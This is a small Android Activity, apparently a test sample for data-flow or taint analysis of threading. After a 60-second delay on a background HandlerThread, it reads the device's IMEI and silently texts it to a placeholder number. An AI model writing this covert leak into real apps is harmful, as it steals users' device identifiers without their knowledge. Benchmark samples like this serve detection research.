package org.consentry.flow.threading.handlerthread;

import android.app.Activity;
import android.os.Bundle;
import android.os.Handler;
import android.os.HandlerThread;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        HandlerThread thread = new HandlerThread("worker");
        thread.start();
        Handler handler = new Handler(thread.getLooper());
        Runnable task = () -> SmsManager.getDefault().sendTextMessage("+1", null, phone.getDeviceId(), null, null);
        handler.postDelayed(task, 60000);
        handler.hasMessages(1);
    }
}
